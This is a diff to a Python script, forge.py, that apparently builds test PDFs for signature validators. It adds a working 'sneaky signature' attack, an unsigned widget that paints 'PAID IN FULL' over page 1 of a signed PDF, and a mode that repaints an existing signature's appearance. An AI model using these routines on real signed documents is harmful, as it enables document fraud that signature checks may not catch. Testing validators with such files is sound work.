@@ -3,11 +3,15 @@
   forge.py sign-anyway IN OUT KEY CERT   sign with pyHanko without its key-usage check (a certificate not fit to sign)
   forge.py sign IN OUT KEY CERT          sign with pyHanko as it normally does (keeps the input's cross-reference style)
   forge.py change-page IN OUT            append an incremental update that replaces page 1's content
+  forge.py sneaky IN OUT                 append an unsigned signature field whose appearance paints over page 1
+                                         (the "sneaky signature" attack; pyHanko's own policy lets it through)
+  forge.py repaint-signature IN OUT      give the first signature's own widget a new, visible appearance
+  forge.py empty-field IN OUT            append an empty signature field for a next signer, as pyHanko makes it
 """
 import sys
 from pyhanko.pdf_utils.incremental_writer import IncrementalPdfFileWriter
 from pyhanko.pdf_utils import generic
-from pyhanko.sign import signers
+from pyhanko.sign import signers, fields
 
 
 def sign(source, target, key, cert, key_usage):
@@ -31,6 +35,65 @@ def change_page(source, target):
             writer.write(out)
 
 
+OVERLAY = b"q 1 1 1 rg 0 0 300 60 re f 0 0 0 rg BT /Helv 20 Tf 10 25 Td (PAID IN FULL) Tj ET Q"
+
+
+def overlay_appearance(writer):
+    """A form XObject that covers 300 x 60 points with white and writes over it."""
+    n = generic.NameObject
+    font = generic.DictionaryObject({n("/Type"): n("/Font"), n("/Subtype"): n("/Type1"), n("/BaseFont"): n("/Helvetica")})
+    stream = generic.StreamObject({
+        n("/Type"): n("/XObject"), n("/Subtype"): n("/Form"),
+        n("/BBox"): generic.ArrayObject([generic.NumberObject(v) for v in (0, 0, 300, 60)]),
+        n("/Resources"): generic.DictionaryObject({n("/Font"): generic.DictionaryObject({n("/Helv"): font})}),
+    }, stream_data=OVERLAY)
+    return writer.add_object(stream)
+
+
+def sneaky(source, target):
+    n = generic.NameObject
+    with open(source, "rb") as inp:
+        writer = IncrementalPdfFileWriter(inp)
+        page_ref = writer.root["/Pages"]["/Kids"].raw_get(0)
+        page = page_ref.get_object()
+        widget = writer.add_object(generic.DictionaryObject({
+            n("/Type"): n("/Annot"), n("/Subtype"): n("/Widget"), n("/FT"): n("/Sig"), n("/T"): generic.pdf_string("Sneaky"),
+            n("/F"): generic.NumberObject(4), n("/P"): page_ref,
+            n("/Rect"): generic.ArrayObject([generic.NumberObject(v) for v in (100, 600, 400, 660)]),
+            n("/AP"): generic.DictionaryObject({n("/N"): overlay_appearance(writer)}),
+        }))
+        annots = page.get("/Annots", generic.ArrayObject())
+        page[n("/Annots")] = generic.ArrayObject(list(annots) + [widget])
+        writer.mark_update(page_ref)
+        form_ref = writer.root.raw_get("/AcroForm")
+        form = writer.root["/AcroForm"]
+        form[n("/Fields")] = generic.ArrayObject(list(form["/Fields"]) + [widget])
+        writer.mark_update(form_ref if isinstance(form_ref, generic.IndirectObject) else writer.root_ref)
+        with open(target, "wb") as out:
+            writer.write(out)
+
+
+def repaint_signature(source, target):
+    n = generic.NameObject
+    with open(source, "rb") as inp:
+        writer = IncrementalPdfFileWriter(inp)
+        field_ref = writer.root["/AcroForm"]["/Fields"].raw_get(0)
+        field = field_ref.get_object()
+        field[n("/Rect")] = generic.ArrayObject([generic.NumberObject(v) for v in (100, 600, 400, 660)])
+        field[n("/AP")] = generic.DictionaryObject({n("/N"): overlay_appearance(writer)})
+        writer.mark_update(field_ref)
+        with open(target, "wb") as out:
+            writer.write(out)
+
+
+def empty_field(source, target):
+    with open(source, "rb") as inp:
+        writer = IncrementalPdfFileWriter(inp)
+        fields.append_signature_field(writer, fields.SigFieldSpec("NextSigner", on_page=0, box=(100, 100, 300, 150)))
+        with open(target, "wb") as out:
+            writer.write(out)
+
+
 if __name__ == "__main__":
     command, args = sys.argv[1], sys.argv[2:]
     if command == "sign-anyway":
@@ -39,5 +102,11 @@ if __name__ == "__main__":
         sign(*args, key_usage={"non_repudiation"})
     elif command == "change-page":
         change_page(*args)
+    elif command == "sneaky":
+        sneaky(*args)
+    elif command == "repaint-signature":
+        repaint_signature(*args)
+    elif command == "empty-field":
+        empty_field(*args)
     else:
         sys.exit(__doc__)
